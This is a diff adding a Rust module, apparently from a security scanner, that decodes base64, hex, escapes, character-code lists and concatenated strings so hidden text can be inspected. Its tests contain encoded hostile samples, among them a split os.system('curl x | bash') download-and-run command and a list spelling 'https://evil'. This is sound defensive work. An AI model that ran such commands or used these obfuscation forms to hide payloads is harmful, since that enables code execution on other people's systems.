@@ -1,0 +1,267 @@
+//! What is written in another alphabet: base64, hexadecimal digits, percent signs, escapes, numbers of characters, and texts in parts.
+//!
+//! Each is decoded and scanned as a text of its own, and what is decoded may hold another, three deep. A finding points to where the
+//! outermost stands. Only what becomes a readable text counts: most long words are names, digests and data. Nothing is allocated for
+//! those, and all that is decoded of a text is no longer than the text, for each kind and depth.
+
+use std::ops::Range;
+
+/// How deep what is decoded is looked into.
+pub(crate) const MAX_DEPTH: usize = 3;
+/// The fewest bytes of a text that is worth a look.
+const SHORTEST: usize = 12;
+/// The fewest characters that spell one.
+const SHORTEST_RUN: usize = 20;
+
+/// A text that was decoded, and where its spelling stands.
+#[derive(Debug, PartialEq, Eq)]
+pub(crate) struct Decoded {
+    pub(crate) span: Range<usize>,
+    pub(crate) text: String,
+}
+
+/// Hands on every readable text that something in `text` spells.
+pub(crate) fn each_decoded(text: &str, mut found: impl FnMut(Decoded)) {
+    let bytes = text.as_bytes();
+    let mut at = 0;
+    while let Some(&byte) = bytes.get(at) {
+        let end = match byte {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'+' | b'/' => run(bytes, at, is_base64),
+            b'\\' | b'%' => at + escapes(bytes, at),
+            _ => at + 1,
+        };
+        let end = end.max(at + 1);
+        if end - at >= SHORTEST_RUN {
+            let run = bytes.get(at..end).unwrap_or_default();
+            let decoded = match byte {
+                b'\\' | b'%' => decode_escapes(run),
+                _ => decode_hex(run).or_else(|| decode_base64(run)),
+            };
+            if let Some(text) = decoded.and_then(readable) {
+                found(Decoded { span: at..end, text });
+            }
+        }
+        at = end;
+    }
+    each_list_of_numbers(bytes, &mut found);
+    each_text_in_parts(text, &mut found);
+}
+
+const fn is_base64(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_' | b'=')
+}
+
+fn run(bytes: &[u8], at: usize, is_part: impl Fn(u8) -> bool) -> usize {
+    let rest = bytes.get(at..).unwrap_or_default();
+    at + rest.iter().position(|byte| !is_part(*byte)).unwrap_or(rest.len())
+}
+
+fn digit(byte: u8) -> Option<u8> {
+    (byte as char).to_digit(16).and_then(|digit| u8::try_from(digit).ok())
+}
+
+fn decode_hex(run: &[u8]) -> Option<Vec<u8>> {
+    let digits = run.strip_prefix(b"0x").unwrap_or(run);
+    let is_all = digits.len().is_multiple_of(2) && digits.iter().all(u8::is_ascii_hexdigit);
+    let pair = |pair: &[u8]| match pair {
+        [high, low] => Some(digit(*high)? << 4 | digit(*low)?),
+        _ => None,
+    };
+    let is_readable = is_all && digits.chunks(2).take(8).filter_map(pair).all(is_of_text);
+    is_readable.then(|| digits.chunks(2).filter_map(pair).collect())
+}
+
+/// The value of a sign of base64, in either alphabet.
+const fn value(byte: u8) -> Option<u8> {
+    match byte {
+        b'A'..=b'Z' => Some(byte - b'A'),
+        b'a'..=b'z' => Some(byte - b'a' + 26),
+        b'0'..=b'9' => Some(byte - b'0' + 52),
+        b'+' | b'-' => Some(62),
+        b'/' | b'_' => Some(63),
+        _ => None,
+    }
+}
+
+fn group(four: &[u8]) -> [u8; 3] {
+    let bits = (0..4)
+        .fold(0_u32, |bits, at| bits << 6 | u32::from(four.get(at).copied().and_then(value).unwrap_or(0)));
+    let [_, first, second, third] = bits.to_be_bytes();
+    [first, second, third]
+}
+
+fn decode_base64(run: &[u8]) -> Option<Vec<u8>> {
+    let digits = run.split(|byte| *byte == b'=').next().unwrap_or_default();
+    // A word in which no letter changes its case is no base64.
+    let has_both = digits.iter().any(u8::is_ascii_uppercase) && digits.iter().any(u8::is_ascii_lowercase);
+    let begins_readable = digits.chunks(4).take(3).flat_map(group).all(|byte| is_of_text(byte) || byte == 0);
+    if !has_both || !begins_readable || digits.len() % 4 == 1 {
+        return None;
+    }
+    let mut bytes: Vec<u8> = digits.chunks(4).flat_map(group).collect();
+    bytes.truncate(digits.len() * 3 / 4);
+    // PowerShell encodes commands as UTF-16.
+    let is_wide = bytes.chunks(2).take(8).all(|pair| matches!(pair, [low, 0] if *low != 0));
+    if is_wide {
+        bytes.retain(|byte| *byte != 0);
+    }
+    Some(bytes)
+}
+
+/// How long a row of escapes is, with what stands plainly between them.
+fn escapes(bytes: &[u8], start: usize) -> usize {
+    let (mut at, mut plain) = (start, 0);
+    let mut end = start;
+    while plain < 2 {
+        match escape(bytes.get(at..).unwrap_or_default()) {
+            Some((_, length)) => {
+                at += length;
+                (plain, end) = (0, at);
+            }
+            None => {
+                at += 1;
+                plain += 1;
+            }
+        }
+    }
+    end - start
+}
+
+/// The byte that an escape stands for, and how long the escape is.
+fn escape(rest: &[u8]) -> Option<(u8, usize)> {
+    let two = |high: u8, low: u8, length| Some((digit(high)? << 4 | digit(low)?, length));
+    match rest {
+        [b'\\', b'x', high, low, ..] => two(*high, *low, 4),
+        [b'\\', b'u', b'0', b'0', high, low, ..] => two(*high, *low, 6),
+        [b'%', high, low, ..] => two(*high, *low, 3),
+        _ => None,
+    }
+}
+
+fn decode_escapes(mut run: &[u8]) -> Option<Vec<u8>> {
+    let mut bytes = Vec::new();
+    while let Some((&first, rest)) = run.split_first() {
+        let (byte, length) = escape(run).unwrap_or((first, run.len() - rest.len()));
+        bytes.push(byte);
+        run = run.get(length..).unwrap_or_default();
+    }
+    Some(bytes)
+}
+
+/// Numbers of characters with commas between them.
+fn each_list_of_numbers(bytes: &[u8], found: &mut impl FnMut(Decoded)) {
+    let mut at = 0;
+    while let Some(start) = memchr::memchr(b',', bytes.get(at..).unwrap_or_default()).map(|comma| at + comma)
+    {
+        let is_part = |byte: u8| byte.is_ascii_digit() || matches!(byte, b',' | b' ' | b'\n' | b'\r' | b'\t');
+        let near = bytes.get(start.saturating_sub(3)..start).unwrap_or_default();
+        let digits = near.iter().rev().take_while(|byte| byte.is_ascii_digit()).count();
+        let end = run(bytes, start, is_part);
+        at = end.max(start + 1);
+        let begin = start - digits;
+        if digits < 2 || end - begin < SHORTEST_RUN {
+            continue;
+        }
+        let list = bytes.get(begin..end).unwrap_or_default();
+        let numbers = list.split(|byte| *byte == b',').map(|number| {
+            let number = std::str::from_utf8(number).unwrap_or_default().trim();
+            number.parse::<u8>().ok().filter(|byte| is_of_text(*byte))
+        });
+        // A comma may stand behind the last.
+        let texts: Option<Vec<u8>> = numbers.take_while(Option::is_some).collect();
+        if let Some(text) = texts.filter(|text| text.len() * 6 >= list.len()).and_then(readable) {
+            found(Decoded { span: begin..end, text });
+        }
+    }
+}
+
+/// Texts in quotes that a sign joins: each line that has some, without the joints.
+fn each_text_in_parts(text: &str, found: &mut impl FnMut(Decoded)) {
+    let mut start = 0;
+    for line in text.split_inclusive('\n') {
+        let end = start + line.len();
+        if line.contains('+') && line.len() <= 4096 {
+            let joined = without_joints(line);
+            if let Some(text) = joined.map(String::into_bytes).and_then(readable) {
+                found(Decoded { span: start..end, text });
+            }
+        }
+        start = end;
+    }
+}
+
+fn without_joints(line: &str) -> Option<String> {
+    let (mut joined, mut rest, mut joints) = (String::new(), line, 0);
+    while let Some(at) = rest.find('+') {
+        let (before, after) = rest.split_at(at);
+        let after = after.get(1..).unwrap_or_default();
+        let (left, right) = (before.trim_end(), after.trim_start());
+        let quote = left.chars().next_back().filter(|quote| matches!(quote, '"' | '\''));
+        match quote.and_then(|quote| Some((left.strip_suffix(quote)?, right.strip_prefix(['"', '\''])?))) {
+            Some((left, right)) => {
+                joined.push_str(left);
+                joints += 1;
+                rest = right;
+            }
+            None => {
+                joined.push_str(before);
+                joined.push('+');
+                rest = after;
+            }
+        }
+    }
+    joined.push_str(rest);
+    (joints >= 2).then_some(joined)
+}
+
+const fn is_of_text(byte: u8) -> bool {
+    matches!(byte, b' '..=b'~' | b'\n' | b'\r' | b'\t')
+}
+
+/// Bytes that are a text to be read.
+fn readable(bytes: Vec<u8>) -> Option<String> {
+    let text = String::from_utf8(bytes).ok()?;
+    let odd = text.bytes().filter(|byte| byte.is_ascii_control() && !is_of_text(*byte)).count();
+    (text.len() >= SHORTEST && odd == 0).then_some(text)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn decoded(text: &str) -> Vec<String> {
+        let mut list = Vec::new();
+        each_decoded(text, |decoded| list.push(decoded.text));
+        list
+    }
+
+    #[test]
+    fn what_is_spelled_is_read() {
+        let rows = [
+            ("x = 'Y3VybCBodHRwczovL2EuZXhhbXBsZQ=='", "curl https://a.example"),
+            ("6375726c2068747470733a2f2f61", "curl https://a"),
+            (r"'\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73'", "child_process"),
+            ("%63%75%72%6c%20%68%74%74%70%3a%2f%2f%61", "curl http://a"),
+            ("[104,116,116,112,115,58,47,47,101,118,105,108]", "https://evil"),
+            ("YwB1AHIAbAAgAGgAdAB0AHAAcwA6AC8ALwBhAA==", "curl https://a"),
+        ];
+        for (text, expected) in rows {
+            assert!(decoded(text).iter().any(|it| it == expected), "{text}: {:?}", decoded(text));
+        }
+        assert_eq!(decoded("os.system('cu' + 'rl x | ba' + 'sh')"), ["os.system('curl x | bash')"]);
+    }
+
+    #[test]
+    fn names_digests_and_data_are_nothing() {
+        for text in [
+            "a_very_long_name_of_a_function_that_does_much",
+            "/usr/share/doc/package/examples/readme",
+            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
+            "sha512-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCdEfGhIjKl",
+            "10, 20, 30, 40, 50, 60, 70, 80, 90, 100",
+            "100% of 20% and 30%",
+        ] {
+            assert_eq!(decoded(text), Vec::<String>::new(), "{text}");
+        }
+    }
+}
